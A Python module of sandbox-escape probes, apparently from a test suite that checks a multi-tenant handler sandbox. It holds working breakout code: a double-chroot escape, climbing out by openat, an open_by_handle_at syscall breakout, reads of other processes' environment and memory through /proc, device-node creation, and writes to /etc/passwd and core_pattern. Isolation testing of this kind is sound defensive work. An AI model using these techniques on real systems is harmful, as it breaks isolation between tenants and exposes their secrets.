"""Attacks on files of others: code, scratch, devices, and ways out of the root directory."""

import errno
import os
import stat
import subprocess

from . import attack
from .calls import call


def read(path):
    with open(path) as file:
        return file.read()


def write(path):
    with open(path, "w") as file:
        file.write("x")
    os.unlink(path)
    return True


@attack()
def read_other_code(context):
    return read(context["other_code"])


@attack()
def read_other_scratch(context):
    return read(context["other_scratch"])


@attack()
def read_other_code_by_dots(context):
    os.chdir(context["handler"])
    return read(f"../{context['other_name']}/secret.txt")


@attack()
def list_neighbours(context):
    return context["other_name"] in os.listdir(f"{context['handler']}/..")


@attack()
def read_through_symlink(context):
    link = f"{context['tmp']}/link"
    os.symlink(context["other_code"], link)
    return read(link)


@attack()
def hard_link_code(context):
    target = f"{context['link_dir']}/hard"
    os.link(context["own_file"], target)
    os.unlink(target)
    return True


@attack()
def write_own_code(context):
    return write(f"{context['handler']}/new")


@attack()
def write_packages(context):
    return write(f"{context['packages']}/new")


@attack()
def write_runtime(context):
    return write(f"{context['runtime']}/new")


@attack()
def write_usr(context):
    return write(f"{context['usr']}/new")


@attack()
def write_etc(context):
    return write(f"{context['etc']}/passwd")


@attack()
def write_dev(context):
    return write(f"{context['dev']}/new")


def mknod(context, kind, major, minor):
    path = f"{context['tmp']}/node"
    os.mknod(path, kind | 0o600, os.makedev(major, minor))
    os.unlink(path)
    return True


@attack()
def mknod_disk(context):
    return mknod(context, stat.S_IFBLK, 254, 0)


@attack()
def mknod_mem(context):
    return mknod(context, stat.S_IFCHR, 1, 1)


@attack()
def mknod_kmsg(context):
    return mknod(context, stat.S_IFCHR, 1, 11)


@attack()
def open_kmsg(context):
    return os.open("/dev/kmsg", os.O_RDONLY) >= 0


@attack()
def open_any_disk(context):
    for name in os.listdir("/dev"):
        path = f"/dev/{name}"
        if stat.S_ISBLK(os.stat(path).st_mode):
            return os.open(path, os.O_RDONLY) >= 0
    raise OSError(errno.ENOSYS, "no block device")


@attack()
def open_terminal(context):
    return os.openpty()


@attack()
def read_proc(context):
    return read("/proc/1/status")


@attack()
def read_other_environment(context):
    return read(f"/proc/{context['other_pid']}/environ")


@attack()
def read_other_memory(context):
    return os.open(f"/proc/{context['other_pid']}/mem", os.O_RDWR)


@attack()
def enter_other_root(context):
    return os.listdir(f"/proc/{context['other_pid']}/root/handler")


@attack()
def write_core_pattern(context):
    return os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY) >= 0


@attack()
def list_sysfs(context):
    return os.listdir("/sys/kernel")


@attack()
def open_cgroup_files(context):
    return os.open(context["cgroup_file"], os.O_RDWR) >= 0


@attack()
def leave_chroot(context):
    """The classic escape: a second chroot below an open descriptor, then upward to the real one."""
    if context.get("jail"):
        os.chroot(context["jail"])
        os.chdir("/")
    inside = f"{context['tmp']}/inner" if not context.get("jail") else "/inner"
    os.mkdir(inside)
    kept = os.open("/", os.O_RDONLY)
    os.chroot(inside)
    os.fchdir(kept)
    for _ in range(40):
        os.chdir("..")
    os.chroot(".")
    return read(context["outside_secret"])


@attack()
def climb_by_descriptor(context):
    """Moves upward by openat, which needs no working directory."""
    if context.get("jail"):
        kept = os.open("/", os.O_PATH)
        os.chroot(context["jail"])
        directory = kept
    else:
        directory = os.open("/", os.O_PATH)
    for _ in range(40):
        directory = os.open("..", os.O_PATH, dir_fd=directory)
    path = context["outside_secret"].lstrip("/")
    return os.read(os.open(path, os.O_RDONLY, dir_fd=directory), 10)


@attack()
def open_by_handle(context):
    handle = bytearray(b"\x80\0\0\0" + b"\0" * 132)
    import ctypes

    buffer = (ctypes.c_char * len(handle)).from_buffer(handle)
    mount = ctypes.c_int()
    call(303, -100, context["own_file"].encode(), buffer, ctypes.byref(mount), 0)
    directory = os.open(context["handler"], os.O_RDONLY)
    return call(304, directory, buffer, os.O_RDONLY) >= 0


@attack(control="user")
def run_setuid_program(context):
    out = subprocess.run([context["setuid_id"], "-u"], capture_output=True, text=True, timeout=5)
    return out.stdout.strip() == "0"


@attack()
def give_file_to_root(context):
    path = f"{context['tmp']}/mine"
    open(path, "w").close()
    os.chown(path, 0, 0)
    return os.stat(path).st_uid == 0
